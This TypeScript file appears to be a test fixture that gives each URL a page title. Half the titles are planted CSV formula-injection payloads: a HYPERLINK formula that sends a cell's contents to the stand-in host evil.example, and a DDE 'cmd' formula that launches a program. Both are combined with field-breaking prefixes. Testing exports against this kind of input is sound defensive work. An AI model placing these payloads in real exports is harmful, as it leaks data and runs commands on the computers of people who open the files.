import { titles } from '../../corpus/read.ts';
import { hashOf } from '../random.ts';

/** Titles that would run as formulas if a list of links were opened as a sheet. */
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"Win")',
  "=cmd|'/c calc'!A1",
  '@SUM(1)',
  '+1',
  '-2+3',
];
const beginnings = ['', 'News; ', 'News;', 'News,', '"', '";"', "';", 'News\n', 'News\t', '\0'];
const planted = beginnings.flatMap((beginning) => formulas.map((formula) => beginning + formula));
const known = titles()
  .map(({ text }) => text)
  .filter(({ length }) => length < 1000);

/** The title of a page, which its author chose. It follows from the URL, so it uses up no random draw. */
export function titleOf(url: string): string {
  const hash = hashOf(url);
  const some = hash % 2 === 0 ? planted : known;
  return some[(hash >>> 1) % some.length] ?? '';
}
